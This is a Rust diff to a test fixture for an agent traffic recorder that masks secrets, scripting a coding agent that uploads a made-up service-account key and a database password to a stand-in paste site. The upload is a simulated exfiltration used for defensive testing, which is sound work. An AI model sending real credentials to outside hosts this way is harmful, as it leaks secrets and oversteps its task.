@@ -31,13 +31,9 @@ pub struct Fixture {
     pub public_key: String,
 }
 
-fn fingerprint(secret: &str) -> String {
-    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, FINGERPRINT_KEY);
-    let tag = ring::hmac::sign(&key, secret.as_bytes());
-    tag.as_ref()[..12]
-        .iter()
-        .map(|b| format!("{b:02x}"))
-        .collect()
+fn mask(detector: &str, secret: &str) -> String {
+    use cassette_rules::mask::{fingerprint, mask_text};
+    mask_text(detector, &fingerprint(FINGERPRINT_KEY, secret.as_bytes()))
 }
 
 fn h(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
@@ -77,6 +73,22 @@ fn google(permission: &str, service: &str) -> Option<Classification> {
     })
 }
 
+/// The service-account key file the agent leaked (a made-up key).
+pub const SERVICE_ACCOUNT_KEY: &str = r#"{
+  "type": "service_account",
+  "project_id": "proj",
+  "private_key_id": "0123456789abcdef0123456789abcdef01234567",
+  "private_key": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\nVJTUt9Us8cKjMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNb\n-----END PRIVATE KEY-----\n",
+  "client_email": "deployer@proj.iam.gserviceaccount.com"
+}"#;
+
+/// What the agent posted: the key file, and the database password beside it.
+fn service_account_upload() -> Vec<u8> {
+    let key: serde_json::Value = serde_json::from_str(SERVICE_ACCOUNT_KEY).expect("key json");
+    serde_json::to_vec(&serde_json::json!({"title": "creds", "key": key, "db_password": SECRET}))
+        .expect("json")
+}
+
 /// Writes the fixture recording and closes it (sealed segments and a signed manifest).
 pub async fn write() -> Fixture {
     let dir = tempfile::tempdir().expect("tempdir");
@@ -89,7 +101,7 @@ pub async fn write() -> Fixture {
         pod_uid: "5f1c".into(),
     };
     let mut config = RecorderConfig::new(sink.clone(), dir.path().join("spool"), path);
-    config.max_body_bytes = 80;
+    config.max_body_bytes = 1024;
     config.segment_max_bytes = 2048;
     config.digest_key = b"digest-key".to_vec();
     config.agent = Some("coding-agent".into());
@@ -102,11 +114,8 @@ pub async fn write() -> Fixture {
             rec.record(e).await.expect("recorded");
         }
     };
-    let masked_token = format!(
-        "Bearer «masked:google-oauth-token:{}»",
-        fingerprint("ya29.placeholder")
-    );
-    let masked_secret = format!("«masked:secret-fields:{}»", fingerprint(SECRET));
+    let masked_token = format!("Bearer {}", mask("google-oauth-token", "ya29.placeholder"));
+    let masked_secret = mask("secret-field", SECRET);
 
     // 1: list objects, with the placeholder token swapped for a real one.
     r(Event::ConnOpen(ConnOpen {
@@ -199,7 +208,8 @@ pub async fn write() -> Fixture {
     e.masked = 2;
     r(Event::ExchangeEnd(e)).await;
 
-    // 3: … and sends it to a paste site.
+    // 3: … and uploads a service-account key with it to a paste site, masked by the real
+    // masker of cassette-rules.
     r(Event::Request(Request {
         exchange: 3,
         conn: 2,
@@ -208,12 +218,14 @@ pub async fn write() -> Fixture {
         authority: "paste.example.com".into(),
         path: "/api/new".into(),
         version: "HTTP/1.1".into(),
-        headers: h(&[("content-type", "application/x-www-form-urlencoded")]),
+        headers: h(&[("content-type", "application/json")]),
     }))
     .await;
-    let form = format!("text={masked_secret}&x=1");
+    let upload = service_account_upload();
+    let masker = cassette_rules::mask::Masker::new(None, FINGERPRINT_KEY).expect("masker");
+    let (masked, summary) = masker.mask(cassette_rules::mask::BodyKind::Json, &upload);
     let mut body = rec.body(3, Direction::Request);
-    body.write(form.as_bytes()).await.expect("body");
+    body.write(&masked).await.expect("body");
     body.finish().await.expect("body");
     r(Event::Response(Response {
         exchange: 3,
@@ -223,8 +235,8 @@ pub async fn write() -> Fixture {
         trailers: None,
     }))
     .await;
-    let mut e = end(3, 40, 0, Decision::Allow);
-    e.masked = 1;
+    let mut e = end(3, upload.len() as u64, 0, Decision::Allow);
+    e.masked = summary.total();
     r(Event::ExchangeEnd(e)).await;
 
     // 4: a push to main, refused by policy.
@@ -278,7 +290,11 @@ pub async fn write() -> Fixture {
         headers: h(&[("content-type", "application/octet-stream")]),
     }))
     .await;
-    let blob: Vec<u8> = (0..100u8).map(|b| b.wrapping_mul(37) | 0x80).collect();
+    let blob: Vec<u8> = (0..=255u8)
+        .cycle()
+        .take(1100)
+        .map(|b| b.wrapping_mul(37) | 0x80)
+        .collect();
     let mut body = rec.body(5, Direction::Request);
     body.write(&blob).await.expect("body");
     body.finish().await.expect("body");
@@ -290,7 +306,7 @@ pub async fn write() -> Fixture {
         trailers: None,
     }))
     .await;
-    let mut e = end(5, 100, 0, Decision::Allow);
+    let mut e = end(5, blob.len() as u64, 0, Decision::Allow);
     e.classification = google("storage.objects.create", "storage.googleapis.com");
     r(Event::ExchangeEnd(e)).await;
 
